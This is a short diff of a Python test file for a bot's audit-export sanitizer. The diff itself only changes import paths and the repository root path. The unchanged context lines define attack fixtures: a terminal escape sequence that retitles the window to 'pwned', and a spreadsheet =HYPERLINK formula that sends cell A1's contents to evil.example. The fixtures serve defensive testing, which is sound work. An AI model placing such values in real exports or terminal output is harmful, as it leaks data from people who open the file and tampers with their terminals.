@@ -19,9 +19,9 @@ import aiohttp
 from bot.devslack.server import SlackStandIn
 from bot.report.audit_export import COLUMNS, safe_cell
 from tests.conftest import ALICE, APPROVALS, CAROL, SALES, Worker
-from tests.hitl import reject, until
+from tests.support.hitl import reject, until
 
-ROOT = Path(__file__).resolve().parent.parent
+ROOT = Path(__file__).resolve().parents[2]
 RETITLE = "\x1b]0;pwned\x07"  # OSC 0: sets the terminal's title, ended by BEL
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click me")'
 RAW_CONTROLS = ("\x1b", "\x07", "\x9b", "\x7f", "\r")  # ESC, BEL, C1 CSI, DEL, CR (a lone one moves the cursor)
